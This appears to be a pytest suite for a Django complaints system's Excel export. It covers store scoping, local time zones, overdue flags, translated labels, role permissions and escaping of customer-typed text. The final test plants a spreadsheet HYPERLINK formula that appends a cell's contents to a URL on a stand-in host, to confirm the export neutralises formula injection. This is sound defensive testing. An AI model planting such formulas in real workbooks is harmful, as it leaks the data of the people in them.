"""The complaint list exported to Excel: the filtered, scoped rows, in local time, translated."""
import datetime as dt
from io import BytesIO

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from aftersales.tests.factories import (
    CustomerFactory,
    DepartmentFactory,
    VehicleFactory,
    make_complaint,
)
from complaints.models import Complaint

pytestmark = pytest.mark.django_db


def workbook_rows(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="complaints-')
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    return list(sheet.iter_rows(values_only=True))


@pytest.fixture
def supervisor(personas):
    return personas["cs_supervisor"]


def test_export_holds_the_filtered_complaints_of_the_users_stores(client, personas, supervisor, make_user, store_a, store_b):
    customer = CustomerFactory(store=store_a, name="张伟")
    VehicleFactory(owner=customer, plate="京A12345")
    department = DepartmentFactory(store=store_a, name="钣喷车间")
    priced = make_complaint(store=store_a, by=supervisor, customer=customer, category="price", status="assigned",
                            department=department)
    make_complaint(store=store_a, by=supervisor, category="parts")
    make_complaint(store=store_b, by=make_user("cs_supervisor", [store_b]), category="price")
    client.force_login(personas["manager"])
    rows = workbook_rows(client.get(reverse("complaints:export"), {"category": "price"}))
    assert len(rows) == 2
    number, store, _registered, channel, category, severity, status, name, plate, dept, *_rest = rows[1]
    assert (number, store, name, plate, dept) == (priced.number, store_a.name, "张伟", "京A12345", "钣喷车间")
    # Labels in the user's language (Simplified Chinese by default), not the stored codes.
    assert (channel, category, severity) == ("电话", "价格", "一般")
    assert status == str(Complaint.Status.ASSIGNED.label)


def test_export_times_are_the_stores_local_time(client, personas, supervisor, store_a):
    store_a.time_zone = "Asia/Urumqi"
    store_a.save()
    registered = dt.datetime(2026, 3, 2, 1, 30, tzinfo=dt.UTC)
    made = make_complaint(store=store_a, by=supervisor)
    Complaint.objects.filter(pk=made.pk).update(created_at=registered)
    client.force_login(personas["manager"])
    rows = workbook_rows(client.get(reverse("complaints:export")))
    assert rows[1][2] == dt.datetime(2026, 3, 2, 7, 30)  # UTC+6, written without a zone


def test_export_marks_overdue_complaints(client, personas, supervisor, store_a):
    late = make_complaint(store=store_a, by=supervisor)
    Complaint.objects.filter(pk=late.pk).update(due_at=timezone.now() - dt.timedelta(hours=1))
    make_complaint(store=store_a, by=supervisor, status="closed")
    client.force_login(personas["manager"])
    rows = workbook_rows(client.get(reverse("complaints:export")))
    overdue = {row[0]: row[12] for row in rows[1:]}
    assert overdue[late.number] == "是"
    assert list(overdue.values()).count(None) == 1


def test_export_headers_follow_the_users_language(client, personas, supervisor, store_a):
    make_complaint(store=store_a, by=supervisor)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(personas["manager"])
    rows = workbook_rows(client.get(reverse("complaints:export")))
    assert rows[0][:3] == ("Number", "Store", "Registered on")
    assert rows[1][4] == "Repair quality"


@pytest.mark.parametrize("role", ["cs_agent", "dept_head", "advisor"])
def test_export_is_refused_to_roles_without_it(client, personas, role):
    client.force_login(personas[role])
    assert client.get(reverse("complaints:export")).status_code == 403


def test_text_a_customer_typed_never_becomes_a_formula_in_the_workbook(client, personas, store_a):
    from aftersales.tests.factories import make_complaint

    make_complaint(store=store_a, by=personas["cs_supervisor"], description='=HYPERLINK("http://x/?"&B2,"详情")')
    client.force_login(personas["cs_supervisor"])
    response = client.get(reverse("complaints:export"))
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    description = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert description.data_type == "s" and description.value.startswith("'=HYPERLINK")
